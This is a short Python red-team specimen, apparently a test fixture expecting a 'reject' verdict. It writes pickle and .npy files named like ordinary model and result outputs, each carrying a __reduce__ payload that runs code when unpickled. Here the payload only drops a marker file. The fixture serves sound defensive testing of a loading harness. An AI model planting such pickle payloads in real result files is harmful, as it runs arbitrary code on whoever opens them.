"""Leaves result files that run code in whoever unpickles them.

[specimen]
rows = ["20"]
study = "trained"
path = "train.py"
expected = ["reject"]
"""

import json
import os
import pickle
from pathlib import Path

import numpy as np

facts = json.loads(os.environ["REDTEAM_FACTS"])
out = Path(os.environ["FILIAL_OUT"])
BOOM = f"open({facts['drop'] + '/' + facts['token']!r}, 'w').close()"


class Boom:
    def __reduce__(self):
        return exec, (BOOM,)


(out / "model.json").write_text(json.dumps([[0.0, 0.0, 0.0, 0.0, 1]]))
for name in ("results.pkl", "model.pkl", "score.pickle", "model.pt", "metrics.json.pkl"):
    (out / name).write_bytes(pickle.dumps(Boom()))
np.save(out / "predictions.npy", np.array([Boom()], dtype=object), allow_pickle=True)
